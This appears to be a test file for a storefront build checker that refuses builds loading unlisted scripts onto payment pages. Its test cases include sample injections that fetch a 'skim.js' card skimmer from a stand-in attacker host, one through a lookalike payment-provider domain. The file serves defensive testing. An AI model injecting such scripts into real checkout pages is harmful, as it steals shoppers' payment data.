import { writeFileSync } from 'node:fs';
import path from 'node:path';
import { eachTestHasFolder } from '@platform/process/testing/each-test-has-folder';
import { SAMPLE_INVENTORY } from '@platform/storefront/testing/payment-inventory';
import type { RegistryStore } from '../registry-state';
import type { CheckedBuild } from './check-contract';
import { findPaymentFaults } from './payment-page';

let folder: string;

eachTestHasFolder('build', (made) => (folder = made));

const route = (address: string) => ({ path: address, module: './screen', title: 'Screen' });
const CHECKOUT = { routes: [route('/checkout-page')], slots: { 'checkout.note': { room: { lines: 1, most: 1 } } } };
const fill = (slot: string) => ({ slot, module: './note', order: 1 });

/** The live checkout has a slot, which nobody fills yet. */
const store = {
  payment: SAMPLE_INVENTORY,
  state: {
    releases: async () => ({ remotes: { 'mf-checkout': { live: '1.0.0' }, 'mf-gone': { live: null } } }),
    versions: {
      record: async () => ({ routes: CHECKOUT }),
    },
  },
} as unknown as RegistryStore;

function faultsOf(remote: string, { script = '', routes }: { script?: string; routes?: CheckedBuild['routes'] } = {}) {
  writeFileSync(path.join(folder, 'main.js'), script);
  const build = { remote, exposes: {}, integrity: { 'main.js': 'sha384-x', 'main.css': 'sha384-y' }, routes };
  return findPaymentFaults(folder, build, store);
}

describe('A build is refused by the inventory of payment pages', () => {
  it.each([
    ['mf-cart', 'load("https://evil.example/skim.js?v=1")', 'https://evil.example/skim.js?v=1'],
    ['mf-checkout', 'load("https://evil.example/skim.mjs")', 'https://evil.example/skim.mjs'],
    ['mf-checkout', "import('//evil.example/a/skim.js')", '//evil.example/a/skim.js'],
    [
      'mf-checkout',
      'load(`https://checkout.razorpay.com.evil.example/v1/x.js`)',
      'https://checkout.razorpay.com.evil.example/v1/x.js',
    ],
    ['mf-cart', 'load("https://checkout.razorpay.com/v1/checkout.js")', 'https://checkout.razorpay.com/v1/checkout.js'],
  ])('when %s has %s', async (remote, script, url) => {
    expect(await faultsOf(remote, { script })).toEqual([
      expect.stringContaining(`main.js of ${remote} names the script ${url}, which no page of the shop runs`),
    ]);
  });

  it.each([
    ['the checkout itself', { routes: [route('/checkout-page')] }, '/checkout-page'],
    ['a filling of it', { routes: [], fills: [fill('checkout.note')] }, 'checkout.note'],
  ])('when it shows %s, and none of its scripts is in the inventory', async (_, routes, claim) => {
    expect(await faultsOf('mf-gift', { routes })).toEqual([
      expect.stringContaining(`mf-gift shows ${claim} on a payment page, whose inventory has no script of mf-gift`),
    ]);
  });
});

it('A build that brings no other script to a payment page is not refused', async () => {
  const script = 'load("https://checkout.razorpay.com/v1/checkout.js"); see("https://redux.js.org/errors")';
  expect(await faultsOf('mf-checkout', { script, routes: CHECKOUT })).toEqual([]);

  const gift = { routes: [route('/gift-page')], fills: [fill('product.note')] };
  expect(await faultsOf('mf-gift', { script: 'load("/shell/later.js")', routes: gift })).toEqual([]);
  expect(await faultsOf('mf-gift')).toEqual([]);
});
